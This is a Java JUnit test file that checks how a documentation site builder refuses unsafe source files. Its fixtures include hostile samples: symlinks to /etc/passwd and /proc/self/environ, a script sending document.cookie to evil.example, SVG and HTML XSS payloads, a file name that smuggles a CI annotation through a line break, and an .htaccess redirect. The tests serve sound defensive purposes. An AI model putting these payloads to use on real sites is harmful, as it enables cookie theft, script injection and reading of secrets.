package guide.sources;

import guide.problem.Problem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** The sources stage lets in only real files, with safe names, of allowed kinds, one per address. */
class SourceRulesTest {
    @TempDir
    Path root;
    @TempDir
    Path outside;

    private Path write(String path, String text) throws Exception {
        Path p = root.resolve(path);
        Files.createDirectories(p.getParent());
        Files.writeString(p, text);
        return p;
    }

    private Path link(String path, Path target) throws Exception {
        Path p = root.resolve(path);
        Files.createDirectories(p.getParent());
        return Files.createSymbolicLink(p, target);
    }

    private SourceTree gather() {
        return SourceTree.gather(root, root.resolve("target/work"));
    }

    private static String text(SourceTree tree) {
        return String.join("\n", tree.problems().stream().map(Problem::toString).toList());
    }

    /** Every byte of the working folder, to prove nothing from outside reached it. */
    private String everythingGathered() throws Exception {
        StringBuilder all = new StringBuilder();
        try (Stream<Path> s = Files.walk(root.resolve("target/work"))) {
            for (Path p : s.filter(Files::isRegularFile).toList()) all.append(p).append('\n').append(Files.readString(p));
        }
        return all.toString();
    }

    @Test
    void aSymbolicLinkAnywhereIsAnErrorNamingTheLinkAndIsNeverFollowed() throws Exception {
        Path secret = Files.writeString(outside.resolve("secret.txt"), "TOKEN=outside-secret");
        write("content/index.adoc", "= Home\n\nText.\n");
        link("content/introduction/env.txt", Path.of("/proc/self/environ"));
        link("assets/x.txt", Path.of("/etc/passwd"));
        link("templates/partial.peb", secret);
        link("content/linked", outside);
        link("local/content/extra.adoc", secret);
        link("local/site.properties", secret);

        SourceTree tree = gather();

        assertThat(tree.problems()).extracting(Problem::file).containsExactlyInAnyOrder(
                "content/introduction/env.txt", "assets/x.txt", "templates/partial.peb", "content/linked",
                "local/content/extra.adoc", "local/site.properties");
        assertThat(tree.problems()).allSatisfy(p -> {
            assertThat(p.isError()).isTrue();
            assertThat(p.message()).contains("symbolic link");
            assertThat(p.toString()).doesNotContain("/proc", "/etc/passwd", outside.toString());
        });
        assertThat(everythingGathered()).doesNotContain("outside-secret", "root:", "PATH=").contains("= Home");
    }

    @Test
    void aFileWhoseRealPathLeavesTheSourceFolderIsRefused() throws Exception {
        Files.createDirectories(outside.resolve("deep"));
        Files.writeString(outside.resolve("deep/secret.adoc"), "outside-secret");
        link("content/door", outside);
        Files.createDirectories(root.resolve("content"));
        SourceRules rules = new SourceRules(root);

        // As if the link had been missed (or swapped in after it was looked at): the file itself is checked too.
        boolean admitted = rules.admit(root.resolve("content/door/deep/secret.adoc"), "content/door/deep/secret.adoc",
                "content/door/deep/secret.adoc");

        assertThat(admitted).isFalse();
        assertThat(rules.problems()).singleElement().satisfies(p -> {
            assertThat(p.file()).isEqualTo("content/door/deep/secret.adoc");
            assertThat(p.message()).contains("outside the guide's folder");
        });
    }

    @Test
    void contentPublishesOnlyPagesDataPicturesAndDocuments() throws Exception {
        for (String ok : List.of("a.adoc", "data.yml", "map.png", "photo.jpg", "report.pdf", "sheet.xlsx", "notes.txt")) {
            write("content/part/" + ok, "x");
        }
        write("content/part/tracker.js", "fetch('https://evil.example/?' + document.cookie)");
        write("content/part/old-page.html", "<script>alert(1)</script>");
        write("content/part/setup.exe", "MZ");
        write("local/content/part/more.mjs", "export {}");
        write("assets/js/site.js", "// assets are ours");

        SourceTree tree = gather();

        assertThat(tree.problems()).extracting(Problem::file).containsExactlyInAnyOrder(
                "content/part/tracker.js", "content/part/old-page.html", "content/part/setup.exe", "local/content/part/more.mjs");
        assertThat(text(tree))
                .contains("content/part/tracker.js: error: Files of this kind ('.js') are not published from content/.")
                .contains("rename it to 'old-page.adoc'");
        assertThat(tree.work().resolve("content/part/tracker.js")).doesNotExist();
        assertThat(tree.work().resolve("content/part/old-page.html")).doesNotExist();
        assertThat(tree.work().resolve("content/part/map.png")).exists();
        assertThat(tree.work().resolve("assets/js/site.js")).exists();
    }

    @Test
    void anSvgPictureThatCouldRunScriptIsRefusedAndAPlainOneIsNot() throws Exception {
        write("content/plain.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><defs><linearGradient id=\"g\"/></defs>"
                + "<rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use href=\"#g\"/></svg>");
        write("content/script.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
        write("content/onload.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
        write("content/link.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                + "<a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>");
        write("content/remote.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://tracker.example/p.png\"/></svg>");

        SourceTree tree = gather();

        assertThat(tree.problems()).extracting(Problem::file)
                .containsExactlyInAnyOrder("content/script.svg", "content/onload.svg", "content/link.svg", "content/remote.svg");
        assertThat(tree.work().resolve("content/plain.svg")).exists();
        assertThat(tree.work().resolve("content/script.svg")).doesNotExist();
    }

    @Test
    void aFileNameOutsideTheSafeSetGivesOneErrorWithTheSuggestedName() throws Exception {
        write("content/part/Café notes.adoc", "= Café\n\nText.\n");
        write("content/My Part/one.adoc", "= One\n\nText.\n");
        write("content/My Part/two.adoc", "= Two\n\nText.\n");
        write("content/part/why?.adoc", "= Why\n\nText.\n");
        write("content/part/fine_name-2.adoc", "= Fine\n\nText.\n");
        write("content/part/aux.adoc", "= Aux\n\nText.\n");
        write("content/part/x\n::error file=evil::y.adoc", "= X\n\nText.\n");

        SourceTree tree = gather();

        assertThat(tree.problems()).hasSize(5);
        assertThat(tree.problems()).allSatisfy(p -> assertThat(p.toString().lines().count()).isEqualTo(2));
        assertThat(text(tree))
                .contains("content/part/Café notes.adoc: error: The file name 'Café notes.adoc' has a space and a letter outside a to z")
                .contains("Rename it to 'cafe-notes.adoc'")
                .contains("content/My Part: error: The folder name 'My Part' has a space")
                .contains("Rename it to 'my-part'")
                .contains("Rename it to 'why.adoc'")
                .contains("content/part/aux.adoc: error: The file name 'aux.adoc' is kept by Windows for a device")
                .contains("Rename it to 'aux-page.adoc'")
                .contains("content/part/x?::error file=evil::y.adoc: error: The file name 'x?::error file=evil::y.adoc' has a line break");
        assertThat(tree.work().resolve("content/part/fine_name-2.adoc")).exists();
        assertThat(tree.work().resolve("content/My Part")).doesNotExist();
    }

    @Test
    void twoPagesThatWouldBePublishedAtOneAddressAreAnErrorNamingBoth() throws Exception {
        write("content/framework/autonomy.adoc", "= Autonomy\n\nOne.\n");
        write("content/framework/autonomy.asciidoc", "= Autonomy\n\nTwo.\n");
        write("content/framework/Partnership.adoc", "= P\n\nOne.\n");
        write("content/framework/partnership.adoc", "= p\n\nTwo.\n");

        SourceTree tree = gather();

        assertThat(tree.problems()).hasSize(2);
        assertThat(text(tree))
                .contains("content/framework/autonomy.asciidoc: error: content/framework/autonomy.asciidoc and "
                        + "content/framework/autonomy.adoc would both be published as framework/autonomy.html")
                .contains("content/framework/partnership.adoc and content/framework/Partnership.adoc");
        assertThat(tree.work().resolve("content/framework/autonomy.adoc")).exists();
        assertThat(tree.work().resolve("content/framework/autonomy.asciidoc")).doesNotExist();
    }

    @Test
    void anOverlayFileThatDoesNotReplaceItsUpstreamIsAnErrorThatSaysHowToReplaceIt() throws Exception {
        write("content/about/index.adoc", "= About\n\nUpstream.\n");
        write("local/content/about/index.asciidoc", "= About\n\nLocal.\n");
        write("local/content/about/team.adoc", "= Team\n\nLocal only.\n");
        write("content/images/logo.png", "png");
        write("assets/images/logo.png", "png");

        SourceTree tree = gather();

        assertThat(text(tree))
                .contains("local/content/about/index.asciidoc: error: local/content/about/index.asciidoc and "
                        + "content/about/index.adoc would both be published as about/index.html")
                .contains("give the local file exactly the same path and name: local/content/about/index.adoc")
                .contains("content/images/logo.png and assets/images/logo.png would both be published as images/logo.png");
        assertThat(tree.problems()).hasSize(2);
        assertThat(tree.work().resolve("content/about/team.adoc")).exists();
    }

    @Test
    void hiddenFilesAreNeverPublishedAndNeedNoFix() throws Exception {
        write("content/.htaccess", "Redirect 301 / https://evil.example/");
        write("content/.git/config", "x");
        write("content/index.adoc", "= Home\n\nText.\n");

        SourceTree tree = gather();

        assertThat(tree.problems()).isEmpty();
        assertThat(tree.work().resolve("content/.htaccess")).doesNotExist();
        assertThat(tree.work().resolve("content/index.adoc")).exists();
    }

    @Test
    void theSuggestedNameIsSafe() {
        assertThat(SourceRules.safeName("Straße Über  Plan (v2).adoc")).isEqualTo("strasse-uber-plan-v2.adoc");
        assertThat(SourceRules.safeName("--.adoc")).isEqualTo("file.adoc");
        assertThat(SourceRules.safeName("日本.adoc")).isEqualTo("file.adoc");
        assertThat(SourceRules.SAFE_NAME.matcher(SourceRules.safeName("a.b c.adoc")).matches()).isTrue();
    }
}
